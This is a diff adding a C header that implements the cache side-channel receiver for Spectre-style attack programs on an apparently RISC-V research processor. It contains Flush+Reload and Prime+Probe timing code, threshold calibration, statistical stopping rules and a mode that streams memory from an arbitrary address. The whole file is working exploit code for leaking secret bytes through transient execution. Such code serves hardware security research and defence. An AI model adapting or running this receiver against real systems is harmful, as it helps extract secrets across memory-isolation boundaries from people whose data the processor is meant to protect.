@@ -0,0 +1,476 @@
+#ifndef RECEIVER_H
+#define RECEIVER_H
+
+/**
+ * The cache side-channel receiver shared by every attack program (code.c for Spectre-SSB, spectre_*.c for the others):
+ * parameters, guideArray and probeArray, results() and the Flush+Reload and Prime+Probe probes.
+ * The sender, i.e. the transient gadget that encodes guideArray[targetIdx] in probeArray, is up to the program,
+ * which then includes leak.h for the attack loop around both.
+ * Include after util_riscv.h and cache.h.
+ */
+
+/* >>>>>> Mostly used parameters for debugging are listed below. >>>>>> */
+/*
+ * 1. Variable and function names are in lower camel case, i.e. camelCase, or sneak case, i.e. sneak_case.
+ * 2. (at)input, (at)inout, etc may be used for preprocessors.
+ */
+
+/**
+ * The following parameters vary with machines and are obtained from experiments,
+ * using "control variates method" and "binary/half-interval/logarithmic search/".
+ */
+//#define TRAIN_TIMES 24 // (Spectre-SSB does not need training, spectre_pht.c and spectre_btb.c define it.) Times to train the predictor. There shall be an ideal value for each machine.
+// Note: smaller TRAIN_TIMES values increase misses or even cause failure, while larger ones unnecessarily take longer time.
+#ifndef ATTACK_ROUNDS
+#define ATTACK_ROUNDS 9 // Effective when 3, 10, 20, etc. Times to attack the same index. Ideal to have larger ATTACK_ROUNDS (takes more time but statistically better).
+#endif
+// For most processors with simple MDP(Memory Dependence Prediction), theoretically 1 will be enough for a successful Spectre-SSB attack.
+#ifndef CACHE_HIT_THRESHOLD
+#define CACHE_HIT_THRESHOLD 45 // For 3 rounds 36-46. For 8 rounds 36-50. Interval smaller than CACHE_HIT_THRESHOLD will be deemed as "cache hit". Ideal to have lower CACHE_HIT_THRESHOLD (higher accuracy).
+#endif
+// To keep results accurate, the larger TRAIN_TIMES and ATTACK_ROUNDS you have, the smaller CACHE_HIT_THRESHOLD shoud be.
+#ifndef AUTO_THRESHOLD
+#define AUTO_THRESHOLD 1 // 1: replace CACHE_HIT_THRESHOLD by calibrateHitThreshold() at startup. It stays the fallback when calibration fails.
+#endif
+#ifndef ADAPTIVE_ROUNDS
+#define ADAPTIVE_ROUNDS 0 // 1: stop attacking a byte as soon as the sequential test below decides it. ATTACK_ROUNDS is then the hard cap.
+#endif
+#ifndef ADAPTIVE_MARGIN
+#define ADAPTIVE_MARGIN 2 // Lead in hits of the best candidate over the runner-up that decides a byte.
+#endif
+/**
+ * ADAPTIVE_MARGIN is the integer form of a sequential probability ratio test (SPRT).
+ * Let a round hit the secret line with probability p1 and any other line with probability p0.
+ * H1 "leader is the secret" against H0 "runner-up is the secret" has a log-likelihood ratio of (a - b) * W after a and b hits,
+ * with W = ln(p1 * (1 - p0) / (p0 * (1 - p1))). It is accepted with error rates alpha and beta once
+ * (a - b) * W >= ln((1 - beta) / alpha), i.e. ADAPTIVE_MARGIN = ceil(ln((1 - beta) / alpha) / W).
+ * - p1 0.9, p0 0.2, alpha = beta = 0.01: W = 3.58, ln(99) = 4.60 -> 2.
+ * - p1 0.7, p0 0.3, alpha = beta = 0.01: W = 1.69 -> 3.
+ * - p1 0.6, p0 0.4, alpha = beta = 0.001: W = 0.81, ln(999) = 6.91 -> 9.
+ * Noisier machines need a larger margin. Candidates that hit for structural reasons in every round also hold the margin down.
+ */
+#ifndef BASELINE_ROUNDS
+#define BASELINE_ROUNDS 0 // >0: learn the background hits of every probe line in this many rounds with index 0, then rank by the excess over it.
+#endif
+/**
+ * Baseline-subtracted scoring (Flush+Reload only; Prime+Probe drops its noise sets in calibratePrimeNoise() instead).
+ * Some lines hit for structural reasons in every round, whatever the secret, e.g. ones sharing a set with results() or the stack.
+ * They take the runner-up slot from the secret's competitors, or even the lead. With BASELINE_ROUNDS, calibrateBackground()
+ * counts the hits of every line over BASELINE_ROUNDS rounds that transmit the in-bounds index 0, for every victim instance
+ * and slice (background[] in leak.h), and after r rounds line v scores results[v] * BASELINE_ROUNDS - background[v] * r,
+ * i.e. its excess over the background rate of the same instance and slice.
+ * rankExcess() ranks by that score once the rounds of a slice are done, and reports it in hits (divided by BASELINE_ROUNDS).
+ * ADAPTIVE_ROUNDS still stops on the raw counts of RECORD_HIT, so no round pays for a scan over all lines.
+ */
+#if BASELINE_ROUNDS > 255
+#error "background[] counts hits in uint8_t, BASELINE_ROUNDS must not exceed 255."
+#endif
+
+#define RECEIVER_FLUSH_RELOAD 0 // flushCache() every round, then time reloads of probeArray (cacheAttack()).
+#define RECEIVER_PRIME_PROBE 1 // Prime the probeArray sets once per slice, then time re-accesses of the own lines (primeProbeAttack()).
+#ifndef RECEIVER_MODE
+#define RECEIVER_MODE RECEIVER_FLUSH_RELOAD
+#endif
+#ifndef PRIME_NOISE_ROUNDS
+#define PRIME_NOISE_ROUNDS 3 // Rounds with an in-bounds index that find the sets the victim and the receiver disturb anyway.
+#endif
+
+#ifndef STREAM_LENGTH
+#define STREAM_LENGTH 0 // 0: leak SECRET_STRING. Otherwise stream STREAM_LENGTH bytes from STREAM_BASE on, see streamLeak().
+#endif
+#ifndef STREAM_BASE
+#define STREAM_BASE ((uint32_t)SECRET_STRING) // Any address, the victim reads it through guideArray[base + offset - guideArray].
+#endif
+#ifndef STREAM_RESUME_OFFSET
+#define STREAM_RESUME_OFFSET 0 // First offset to leak, e.g. one past the last @S record of a run cut off by the cycle cap.
+#endif
+
+/* <<<<<< Mostly used parameters for debugging are listed above. <<<<<< */
+
+#ifndef SECRET_STRING
+#define SECRET_STRING "RISCV"
+#define SECRET_LENGTH 5
+#endif
+// A plain integer literal, since VICTIM_FUNC_COUNT in gadget.h defaults to it.
+#ifndef SECRET_LENGTH
+#error "SECRET_STRING needs SECRET_LENGTH, e.g. -DSECRET_STRING='\"Hi\"' -DSECRET_LENGTH=2."
+#endif
+
+/**
+ * Reference from Lipp et al, 2018, Meltdown:
+ * Based on the value of data in this example, a different part of the cache is accessed when executing the memory access out of order.
+ * As data is multiplied by L1_DCACHE_BLOCK_BYTES (found with getconf PAGE_SIZE, typically 4096), data accesses to probe array are scattered over the array
+ * with a distance of L1_DCACHE_BLOCK_BYTES Bytes (typically 4 KB, assuming an 1 B data type for probe array, e.g. uint8_t).
+ * Thus, there is an injective mapping from the value of data to a memory page, i.e., different values for data never result in an access to the same page.
+ * Consequently, if a cache line of a page is cached, we know the value of data.
+ * The spreading over pages eliminates false positives due to the prefetcher, as the prefetcher cannot access data across page boundaries.
+ * This prevents the hardware prefetcher from loading adjacent memory locations into the cache as well.
+ */
+
+/**
+ * Assume the attacker knows following information in advance:
+ * - Hardware specifications
+ * - Control of an guideArray (address, contents, size) and an probeArray (contents, size)
+ * - The start address of secretString (but no way to directly access contents of secretString)
+ * - The character set of secretString and its size (such as extended ASCII which is 0~255, 8bit).
+ */
+
+/**
+ * Although there are no direct accesses to secretString, after being "trained" for a certain times,
+ * vulnerable processors will "grow accustomed to" legitimate inputs (such as branch-not-taken) fed deliberately by the attacker, 
+ * and mistakenly predict that succeeding illegitimate attempts wll also be true, fetching secretString into cache.
+ * The attacker can then exploit the shortened access time (because of cache) and apply cache SCAs methods,
+ * to infer characters of secretString one by one, using brutal force (exhausting all 256 possibities of extended ASCII).
+ */
+
+#define RESULT_ARRAY_SIZE 256
+/**
+ * In this example program, all secret characters are in extended ASCII codes (0~255, 8bit).
+ * Ofc you may change it for others like Unicode, but that will complicate everything,
+ * and will also introduce REALLY high performance requirements.
+ */
+
+#define ARRAY_SIZE_FACTOR RESULT_ARRAY_SIZE
+/**
+ * The size of probeArray can not be smaller than the max element of guideArray.
+ * Also the size of guideArray can not be smaller than "size of the probeArray divided by ARRAY_STRIDE".
+ * For simplicity they are set the same in this program using ARRAY_SIZE_FACTOR.
+ * (Basically there is no point in designating these parameters of guideArray separately.)
+ *
+ * At the same time, ARRAY_SIZE_FACTOR must be no smaller than RESULT_ARRAY_SIZE (which is further restricted by character set size),
+ * and be a power of 2, e. g. legal value 512, 1024, etc. and illegal value 384.
+ * For simplicity it is to set equal to RESULT_ARRAY_SIZE and has been proved to be sufficient.
+ */
+_Static_assert((ARRAY_SIZE_FACTOR & (ARRAY_SIZE_FACTOR - 1)) == 0, "ARRAY_SIZE_FACTOR must be a power of 2");
+_Static_assert(ARRAY_SIZE_FACTOR >= RESULT_ARRAY_SIZE, "ARRAY_SIZE_FACTOR must be no smaller than RESULT_ARRAY_SIZE");
+
+#ifndef LEAK_BITS
+#define LEAK_BITS 8 // Bits of the secret leaked per transient window: 8 (a whole byte), 4 (nibble) or 1 (bit).
+#endif
+/**
+ * In sliced modes every victim call encodes only LEAK_BITS bits of the secret byte, selected by a shift,
+ * so cacheAttack() needs to time just LEAK_SLICE_VALUES probe lines per round instead of RESULT_ARRAY_SIZE,
+ * at the price of LEAK_SLICES transient windows per byte.
+ */
+#if LEAK_BITS != 8 && LEAK_BITS != 4 && LEAK_BITS != 2 && LEAK_BITS != 1
+#error "LEAK_BITS must divide 8: 8, 4, 2 or 1."
+#endif
+#define LEAK_SLICE_VALUES (1 << LEAK_BITS) // Probe lines timed per round.
+#define LEAK_SLICES (8 / LEAK_BITS) // Transient windows per byte.
+#if LEAK_BITS == 8
+#define LEAK_SLICE(value, shift) (value)
+#else
+#define LEAK_SLICE(value, shift) (((value) >> (shift)) & (LEAK_SLICE_VALUES - 1))
+#endif
+
+/**
+ * The probe line of value v is PROBE_LINE(v), ARRAY_STRIDE bytes after the one of v - 1.
+ * With a whole byte per window there are about as many values as sets, so each value takes the next line.
+ * A sliced mode has far fewer values than sets: they are spread evenly over one way of the cache instead,
+ * and shifted by half a stride, away from the first sets. Those are crowded by the small globals at the start of RAM
+ * and by every way-aligned array: results(), tempArray[1..2] right behind probeArray, dummyMem (see tools/dcache_model).
+ */
+#if LEAK_SLICE_VALUES >= L1_DCACHE_SETS || LEAK_BITS == 8
+#define ARRAY_STRIDE_BITS L1_DCACHE_BLOCK_BITS
+#define PROBE_OFFSET 0
+#else
+#define ARRAY_STRIDE_BITS (L1_DCACHE_BLOCK_BITS + L1_DCACHE_SETS_BITS - LEAK_BITS)
+#define PROBE_OFFSET (ARRAY_STRIDE / 2)
+#endif
+#define ARRAY_STRIDE (1 << ARRAY_STRIDE_BITS) // At least one cache line per value.
+#define PROBE_BYTES (LEAK_SLICE_VALUES * ARRAY_STRIDE) // Part of probeArray that holds the probe lines of a round.
+#define PROBE_LINE(value) (&probeArray[PROBE_OFFSET + (value) * ARRAY_STRIDE])
+_Static_assert(ARRAY_STRIDE_BITS >= L1_DCACHE_BLOCK_BITS,
+	"ARRAY_STRIDE must be at least one cache line, so that every value has a line of its own");
+
+#define GUIDE_FILL_VALUE 1 // Every entry of guideArray holds this value.
+/**
+ * The architectural (non-speculative) path of a victim call reads guideArray[0], so the line of LEAK_SLICE(GUIDE_FILL_VALUE, shift)
+ * is hot in every round, in every mode. It ties with the secret line at best and wins whenever the secret line misses a round,
+ * so it is kept out of the candidates, and the slice falls back to it when LEAK_ARCH_FALLBACK() holds for the best of them.
+ * A whole byte falls back only when no other line was hot at all (e.g. a secret byte 0x01): a secret line that is hot in just
+ * a few rounds still stands out among 255 cold ones. A slice has so few values that a stray hit can lead,
+ * so it falls back unless the best other line was hot in more than half of the rounds.
+ */
+#define LEAK_ARCH_LINE(shift) LEAK_SLICE(GUIDE_FILL_VALUE, shift)
+#if LEAK_BITS == 8
+#define LEAK_ARCH_FALLBACK(hits, rounds) ((hits) == 0)
+#else
+#define LEAK_ARCH_FALLBACK(hits, rounds) ((hits) * 2 <= (rounds))
+#endif
+
+/**
+ * Functions of a sender that must keep a PC of their own, e.g. a trained branch or one of several victim instances.
+ * Above -O0, GCC would otherwise inline them into every caller, or fold identical instances into one (-fipa-icf).
+ */
+#define SENDER_FN __attribute__((noipa))
+
+// Memory address for displaying characters (in place of printf)
+volatile char* outputAddr = (char*)0x40002000;
+
+#include "telemetry.h"
+
+// Line-aligned, so that bootArrays() can fill it with word stores (-mstrict-align).
+RSD_NOINIT uint8_t guideArray[ARRAY_SIZE_FACTOR] __attribute__((aligned(L1_DCACHE_BLOCK_BYTES)));
+// Way-aligned, so that PROBE_LINE(v) maps to set (PROBE_OFFSET + v * ARRAY_STRIDE) / L1_DCACHE_BLOCK_BYTES,
+// i.e. set v with a whole byte per window, as the probe orders in probe_order.h assume.
+RSD_NOINIT uint8_t probeArray[PROBE_BYTES] __attribute__((aligned(L1_DCACHE_WAY_BYTES)));
+
+
+uint32_t dummy;
+uint32_t cacheHitThreshold = CACHE_HIT_THRESHOLD; // Raw mcycle difference below which a read is a hit. May be replaced at startup.
+
+// Get the highest and second highest hit values in results().
+// Each index (from 0 to RESULT_ARRAY_SIZE-1) of results() represents a character,
+// and its corresponding stored array value means cache hits.
+// Counts never exceed ATTACK_ROUNDS, so one byte per counter is enough and keeps results() within 32 cache lines.
+#if ATTACK_ROUNDS > 255
+#error "results() counts hits in uint8_t, ATTACK_ROUNDS must not exceed 255."
+#endif
+// Way-aligned as well: results[v] maps to set v / L1_DCACHE_BLOCK_BYTES, which the probe orders keep away from the next probe.
+static uint8_t results[RESULT_ARRAY_SIZE] __attribute__((aligned(L1_DCACHE_WAY_BYTES)));
+// The way-aligned arrays (dummyMem, probeArray and results()) and up to one way of padding in front of each of them
+// have to fit next to the reserve.
+#define WAY_ALIGNED_BYTES(bytes) ((bytes) + L1_DCACHE_WAY_BYTES - 1)
+_Static_assert(WAY_ALIGNED_BYTES(sizeof(dummyMem)) + WAY_ALIGNED_BYTES(sizeof(probeArray)) + WAY_ALIGNED_BYTES(sizeof(results))
+	<= RSD_RAM_BYTES - RSD_RAM_RESERVE_BYTES,
+	"dummyMem, probeArray and results() do not fit into RAM with this geometry: lower MULTIPLIER");
+uint8_t hitIdx[2];
+uint32_t hitTimes[2];
+
+/**
+ * Order of the probe lines within a round. Order is mixed up to prevent stride prediction (prefetching).
+ * PROBE_ORDER_TABLE: a permutation generated for the D$ geometry by tools/gen_probe_order.c (inc/probe_order.h).
+ * No two consecutive probes are neighbouring lines, in the set that the previous hit's results() entry was written to,
+ * or part of a constant stride (as far as the number of lines permits, see probe_order.h).
+ * PROBE_ORDER_MIXER: (i * MIXER_A + MIXER_B) mod the number of lines, which has none of these guarantees.
+ */
+#include "probe_order.h"
+#define PROBE_ORDER_MIXER 0
+#define PROBE_ORDER_TABLE 1
+#ifndef PROBE_ORDER
+#if PROBE_ORDER_MATCHES_GEOMETRY
+#define PROBE_ORDER PROBE_ORDER_TABLE
+#else
+#define PROBE_ORDER PROBE_ORDER_MIXER // probe_order.h is for another L1_DCACHE_PROFILE.
+#endif
+#endif
+#ifndef MIXER_A
+#define MIXER_A 65 // min 65. 163, 167, 127, 111. Must be larger than 64.
+#endif
+#ifndef MIXER_B
+#define MIXER_B 1 // Arbitrary as long as larger than 0.
+#endif
+#if PROBE_ORDER == PROBE_ORDER_TABLE
+#if !PROBE_ORDER_MATCHES_GEOMETRY
+#error "probe_order.h was generated for another D$ geometry: make probe-order DEFS=\"-DL1_DCACHE_PROFILE=...\", or use PROBE_ORDER_MIXER."
+#endif
+#define PROBE_ORDER_CAT(bits) probeOrder ## bits
+#define PROBE_ORDER_OF(bits) PROBE_ORDER_CAT(bits)
+#define PROBE_INDEX(i) (PROBE_ORDER_OF(LEAK_BITS)[(i)]) // A load from a read-only table, no arithmetic.
+#elif PROBE_ORDER == PROBE_ORDER_MIXER
+#define PROBE_INDEX(i) ((((i) * MIXER_A) + MIXER_B) & (LEAK_SLICE_VALUES-1))
+#else
+#error "PROBE_ORDER must be PROBE_ORDER_MIXER or PROBE_ORDER_TABLE."
+#endif
+
+/**
+ * flushCache() of the probe lines of a round (the prime of the Prime+Probe receiver).
+ * Spread lines are evicted set by set, instead of walking every set between them.
+ */
+void flushProbeLines(){
+#if ARRAY_STRIDE_BITS == L1_DCACHE_BLOCK_BITS
+	flushCache((uint32_t)probeArray, PROBE_BYTES);
+#else
+	for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+		primeSet((uint32_t)PROBE_LINE(v));
+	}
+#endif
+}
+
+/**
+ * Clear results() and the best/runner-up candidates before attacking a new character.
+ */
+void resetResults(uint8_t* outIdx, uint32_t* outTimes){
+	for(uint32_t cIdx = 0; cIdx < LEAK_SLICE_VALUES; cIdx++){
+		results[cIdx] = 0;
+	}
+	outIdx[0] = 0;
+	outTimes[0] = 0;
+	outIdx[1] = 0;
+	outTimes[1] = 0;
+}
+
+/**
+ * Move idx, which now has count hits, into the best (index 0) or runner-up (index 1) slot of outIdx/outTimes if it earns one.
+ * Counts only ever grow, so a candidate can only move up. A macro, so that the receivers' loops stay free of calls.
+ */
+#define RECORD_HIT(outIdx, outTimes, idx, count) do { \
+	if ((idx) == (outIdx)[0]){ \
+		(outTimes)[0] = (count); \
+	} \
+	else if ((count) > (outTimes)[0]){ \
+		(outIdx)[1] = (outIdx)[0]; \
+		(outTimes)[1] = (outTimes)[0]; \
+		(outIdx)[0] = (idx); \
+		(outTimes)[0] = (count); \
+	} \
+	else if ((idx) == (outIdx)[1] || (count) > (outTimes)[1]){ \
+		(outIdx)[1] = (idx); \
+		(outTimes)[1] = (count); \
+	} \
+	} while (0)
+
+/**
+ * Time every probeArray line once, count hits in results(), and keep the best (index 0) and the runner-up (index 1)
+ * in outIdx/outTimes up to date in the same pass. They accumulate over rounds until resetResults().
+ * An incremental update after each hit (RECORD_HIT) is enough: there is no second scan over results().
+ * Hits on skipIdx are counted but never become a candidate, see LEAK_ARCH_LINE.
+ */
+void cacheAttack(uint8_t* outIdx, uint32_t* outTimes, uint32_t skipIdx){
+
+	register uint32_t diff; // Use register variables (can only be local) to reduce access time.
+	register uint32_t threshold = cacheHitThreshold;
+	register uint32_t mixed_i;
+	register uint8_t* addr;
+	register uint8_t junk = 0;
+	register uint32_t count;
+	// Read out probeArray and see the hit secret value.
+	/* Time reads in PROBE_ORDER, mixed up to prevent stride prediction (prefetching). */
+	for (register uint32_t i = 0; i < LEAK_SLICE_VALUES; i++) {
+		mixed_i = PROBE_INDEX(i);
+		addr = PROBE_LINE(mixed_i);
+		// Only the read itself is between the 2 mcycle reads, everything else is done before or after.
+		TIMED_READ(diff, addr, junk);
+
+		// Condition: interval of time is smaller than the threshold.
+		if (diff < threshold){
+			count = ++results[mixed_i]; /* Cache hit */
+			if (mixed_i == skipIdx){
+				continue;
+			}
+			RECORD_HIT(outIdx, outTimes, mixed_i, count);
+		}
+	}
+	/* Use junk so the timed reads above won't get optimized out. */
+	dummy = junk;
+
+}
+
+#if BASELINE_ROUNDS
+
+/**
+ * Rank the probe lines by their excess hits after rounds rounds over lineBackground, the hits of every line
+ * in BASELINE_ROUNDS rounds without a secret, see BASELINE_ROUNDS. Put the best (index 0) and the runner-up (index 1)
+ * into outIdx/outTimes, replacing the raw counts of RECORD_HIT.
+ * Only lines with a positive excess become candidates. skipIdx never does, as in cacheAttack().
+ */
+void rankExcess(uint8_t* outIdx, uint32_t* outTimes, const uint8_t* lineBackground, uint32_t rounds, uint32_t skipIdx){
+	int32_t best = 0;
+	int32_t second = 0;
+	outIdx[0] = 0;
+	outIdx[1] = 0;
+	for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+		int32_t score = (int32_t)(results[v] * BASELINE_ROUNDS) - (int32_t)(lineBackground[v] * rounds);
+		if (v == skipIdx || score <= second){
+			continue;
+		}
+		if (score > best){
+			outIdx[1] = outIdx[0];
+			second = best;
+			outIdx[0] = v;
+			best = score;
+		}
+		else {
+			outIdx[1] = v;
+			second = score;
+		}
+	}
+	outTimes[0] = best / BASELINE_ROUNDS;
+	outTimes[1] = second / BASELINE_ROUNDS;
+}
+
+#endif
+
+#if RECEIVER_MODE == RECEIVER_PRIME_PROBE
+
+#if BASELINE_ROUNDS
+#error "BASELINE_ROUNDS is for the Flush+Reload receiver, Prime+Probe ignores its noise sets with PRIME_NOISE_ROUNDS."
+#endif
+
+#if LEAK_SLICE_VALUES > L1_DCACHE_SETS
+#error "Prime+Probe tells values apart by their set and needs a set per probe line: use a smaller LEAK_BITS with this geometry."
+#endif
+
+/**
+ * Prime+Probe needs no flush: the receiver owns the evictionLines lines of every probeArray set (primed by flushProbeLines()),
+ * the victim's secret-dependent load of probeArray evicts one of them, and re-accessing the own lines shows which set was disturbed.
+ * The re-access is the next prime at the same time, so after the first prime of a slice no round pays for a flush.
+ * Every other access of a round (victim stack and tempArray, receiver bookkeeping) also lands in some set,
+ * so the sets that are disturbed even with an in-bounds index are found first and ignored, see calibratePrimeNoise().
+ */
+#define PRIME_WORDS ((LEAK_SLICE_VALUES + 31) / 32)
+uint32_t primeNoise[PRIME_WORDS]; // Bit v set: the set of probe line v is disturbed without any secret.
+uint32_t primeDisturbed[PRIME_WORDS]; // Bit v set: the set of probe line v was disturbed in this round.
+
+/**
+ * Time the re-access of the own lines of every candidate set once, in the same PROBE_ORDER as cacheAttack(),
+ * and count disturbed sets in results() and outIdx/outTimes like cacheAttack() counts hits.
+ * Only primeDisturbed is written during the timed pass: a store to results() could itself disturb a set that is still to be probed.
+ * The lines of results() and outIdx/outTimes written afterwards are primed again.
+ * Disturbed sets on skipIdx or in primeNoise are not counted at all.
+ */
+void primeProbeAttack(uint8_t* outIdx, uint32_t* outTimes, uint32_t skipIdx){
+
+	register uint32_t diff;
+	register uint32_t threshold = cacheHitThreshold;
+	register uint32_t mixed_i;
+	register uint32_t setOffset;
+	register uint8_t* addr;
+	register uint8_t junk = 0;
+	register uint32_t disturbed;
+	register uint32_t count;
+
+	// Write every word, so that the lines of primeDisturbed are disturbed in every round, and thus part of primeNoise.
+	for (uint32_t w = 0; w < PRIME_WORDS; w++){
+		primeDisturbed[w] = 0;
+	}
+	for (register uint32_t i = 0; i < LEAK_SLICE_VALUES; i++) {
+		mixed_i = PROBE_INDEX(i);
+		if ((primeNoise[mixed_i >> 5] >> (mixed_i & 31)) & 1){
+			continue;
+		}
+		setOffset = (uint32_t)PROBE_LINE(mixed_i) & SET_MASK;
+		disturbed = 0;
+		// Re-access all own lines, also after the first slow one: that walk re-primes the set for the next round.
+		for (register uint32_t j = 0; j < evictionLines; j++){
+			addr = evictionBase[j] + setOffset;
+			TIMED_READ(diff, addr, junk);
+			disturbed |= (diff >= threshold);
+		}
+		if (disturbed){
+			primeDisturbed[mixed_i >> 5] |= 1u << (mixed_i & 31);
+		}
+	}
+	dummy = junk;
+
+	for (uint32_t v = 0; v < LEAK_SLICE_VALUES; v++){
+		if (((primeDisturbed[v >> 5] >> (v & 31)) & 1) == 0){
+			continue;
+		}
+		count = ++results[v];
+		primeSet((uint32_t)&results[v]);
+		if (v == skipIdx){
+			continue;
+		}
+		RECORD_HIT(outIdx, outTimes, v, count);
+	}
+	primeSet((uint32_t)outIdx);
+	primeSet((uint32_t)outTimes);
+}
+
+#elif RECEIVER_MODE != RECEIVER_FLUSH_RELOAD
+#error "RECEIVER_MODE must be RECEIVER_FLUSH_RELOAD or RECEIVER_PRIME_PROBE."
+#endif
+
+#endif